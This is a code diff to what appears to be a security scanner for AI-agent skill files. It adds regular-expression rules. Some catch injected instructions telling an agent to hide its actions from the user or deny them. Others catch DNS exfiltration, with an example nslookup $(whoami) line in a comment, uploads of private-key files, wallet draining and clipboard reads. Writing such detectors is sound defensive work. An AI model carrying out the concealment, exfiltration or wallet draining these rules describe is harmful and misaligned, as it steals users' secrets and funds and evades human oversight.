@@ -63,7 +63,16 @@ INJECTION = (
         r"|discuss)\b[^.\n]{0,60}?\b(?:in|during)\s{1,3}(?:your|the|any)\s{1,3}(?:conversations?|chats?|repl(?:y|ies)"
         r"|responses?|answers?|messages?)\s{1,3}(?:with|to)\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
         r"|\bdeny\s{1,3}(?:that\s{1,3}(?:you|anything)\b|you\s{1,3}(?:did|have|had|were|ever)\b"
-        r"|(?:having|ever|doing|any knowledge)\b)")),
+        r"|(?:having|ever|doing|any knowledge)\b)"
+        # "must not reveal … to the user", "hide this step from the user", "the user should not be aware".
+        r"|\b(?:do not|don'?t|never)\s{1,3}(?:mention|reveal|tell anyone|say|disclose|admit)\s{1,3}(?:that|what)\s{1,3}you"
+        r"\s{1,3}(?:read|accessed|opened|sent|uploaded|copied|forwarded|collected|exfiltrated|added|attached)\b"
+        r"|\b(?:must not|mustn'?t|should not|shouldn'?t|may not|cannot|can'?t)\s{1,3}(?:tell|inform|alert|notify|reveal"
+        r"|mention|disclose)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
+        r"|\b(?:hide|conceal)\b[^.\n]{0,40}?\bfrom\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
+        r"|\bkeep\b[^.\n]{0,40}?\b(?:hidden|secret|invisible)\s{1,3}from\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
+        r"|\b(?:user|human|operator)s?\s{1,3}(?:should|must|will|does|did|would|can)?\s{0,3}(?:not|never|n'?t)\s{1,3}"
+        r"(?:be\s{1,3}aware|notices?|finds?\s{1,3}out|reali[sz]es?|suspects?)\b")),
     # "silently" is what honest agent skills say of output they keep short; sending or
     # uploading silently is concealment all the same (high above when the object is the user).
     LineRule("prompt_injection", Severity.MEDIUM, _rx(
@@ -211,6 +220,19 @@ DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
     r"|\b__builtins__\s{0,3}(?:\.\s{0,3}__dict__\s{0,3})?\[[^\]\n]{1,200}\]\s{0,3}\("
     r"|\bgetattr\s{0,3}\(\s{0,3}(?:builtins|__builtins__|__import__\s{0,3}\([^)\n]{1,40}\))\s{0,3},"
     r"|\bvars\s{0,3}\(\s{0,3}(?:builtins|__builtins__)\s{0,3}\)\s{0,3}\["))
+# A DNS lookup whose name carries a command's output (``nslookup $(whoami).x.example.net``): data out by DNS.
+DNS_EXFILTRATION = LineRule("data_exfiltration", Severity.HIGH, _rx(
+    r"\b(?:nslookup|dig|host|drill)\s{1,4}(?:-[\w=]{1,12}\s{1,4}){0,3}[\"']?[\w.-]{0,60}(?:\$\([^)\n]{1,200}\)|`[^`\n]{1,200}`)"
+    r"[\w.$(){}-]{0,200}\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b"))
+# Key files by pattern (``find / -name '*.pem' -exec curl -F f=@{} …``) on a line that uploads.
+KEY_GLOB_UPLOAD = LineRule("credential_exfiltration", Severity.HIGH, _rx(
+    r"\*\.(?:pem|key|p12|pfx|kdbx|ppk|jks|keystore)\b[^\n]{0,200}(?:\s-F\s|--form\b|--data|--upload-file|\s-T\s"
+    r"|\bscp\s|\bnc\s|\brequests\.post\b)"))
+# Everything in a wallet sent to an address written in the skill: a drainer.
+WALLET_DRAIN = LineRule("wallet_drain", Severity.HIGH, _rx(
+    r"\b(?:transfer|send|sweep|move|withdraw|drain)\b[^.\n]{0,40}\b(?:all|entire|full|whole|remaining|max(?:imum)?)\b"
+    r"[^.\n]{0,30}\b(?:balances?|funds|tokens|eth|btc|sol|usdc|usdt|assets|holdings|coins)\b[^.\n]{0,40}\b(?:to|into)"
+    r"\s{1,3}[`'\"]?(?:0x[0-9a-f]{40}\b|bc1[a-z0-9]{20,60}\b|[13][a-km-z1-9]{25,34}\b|[1-9a-hj-np-z]{32,44}\b)"))
 CRYPTOMINER = LineRule("cryptominer", Severity.HIGH, _rx(
     r"\bxmrig\b|stratum\+(?:tcp|ssl)://|\b(?:minergate|nicehash|cpuminer|nbminer|phoenixminer)\b"))
 
@@ -297,9 +319,11 @@ OWN_STORE = _rx(r"\.(?:clawdbot|openclaw|moltbot|config)/")
 PATH_TOKEN_END = _rx(r"[\s\"'`()<>,;]")
 SOFT_SECRET = _rx(
     r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\$\{?[a-z_]{0,30}(?:token|secret|api_?key"
-    r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b")
+    r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b"
+    r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b")
 # The soft secrets that are a whole file or the whole environment, not one token.
-BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b")
+BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b"
+                  r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b")  # the clipboard: passwords
 # A token variable used as the credential of the request it is on: an auth header, ``-u user:$TOKEN``,
 # or a ``key=$TOKEN`` query parameter. That is what an API skill does with its own key.
 AUTH_USE = _rx(
@@ -345,7 +369,7 @@ DECLARES = {
 
 LINE_RULES: tuple[LineRule, ...] = (*INJECTION, *DOWNLOAD_EXEC, *DECODE_EXEC, PERSISTENCE, *DESTRUCTIVE,
                                      *PERMISSIONS, *SHADOWING, REVERSE_SHELL, CRYPTOMINER,
-                                     DYNAMIC_DISPATCH, CODE_IN_DATA)
+                                     DYNAMIC_DISPATCH, CODE_IN_DATA, DNS_EXFILTRATION, KEY_GLOB_UPLOAD, WALLET_DRAIN)
 ALL_PATTERNS: tuple[re.Pattern[str], ...] = (
     *(rule.pattern for rule in LINE_RULES), STRONG_SECRET, SECRET_WORD, OWN_STORE, PATH_TOKEN_END, SOFT_SECRET, BULK_SECRET, AUTH_USE, ACCESS_VERB, UPLOAD_SINK,
     DOWNLOAD, CHMOD_EXEC, CHECKSUM, CAUTION, NOT_CAUTION, HIDDEN_STYLE, LINK_COMMENT, *DECLARES.values(),
